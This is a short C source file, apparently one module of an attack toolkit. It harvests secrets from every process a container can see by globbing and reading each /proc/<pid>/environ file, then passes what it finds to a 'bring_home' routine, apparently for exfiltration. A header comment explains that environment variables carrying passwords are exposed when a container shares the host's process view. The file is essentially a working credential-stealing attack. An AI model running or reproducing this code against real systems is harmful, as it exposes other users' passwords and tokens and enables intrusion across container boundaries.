/*
 * Passwords are handed to programs in their environment, and the kernel shows it to whoever may read that process: proc_pid_environ(5). A
 * box that sees the host's processes reads all of them.
 */
#include "attack.h"
#include <glob.h>

/* argv: where to put what was found. */
void read_neighbour(char **argv)
{
	char pattern[PATH_MAX], secrets[65536];
	glob_t found;
	snprintf(pattern, sizeof pattern, "%s/[0-9]*/environ", proc());
	if (glob(pattern, 0, NULL, &found) != 0)
		return;
	for (size_t n = 0; n < found.gl_pathc; n++) {
		const int fd = open(found.gl_pathv[n], O_RDONLY);
		const ssize_t length = fd < 0 ? -1 : read(fd, secrets, sizeof secrets);
		if (length > 0)
			bring_home(argv[0], secrets, length);
		if (fd >= 0)
			close(fd);
	}
}
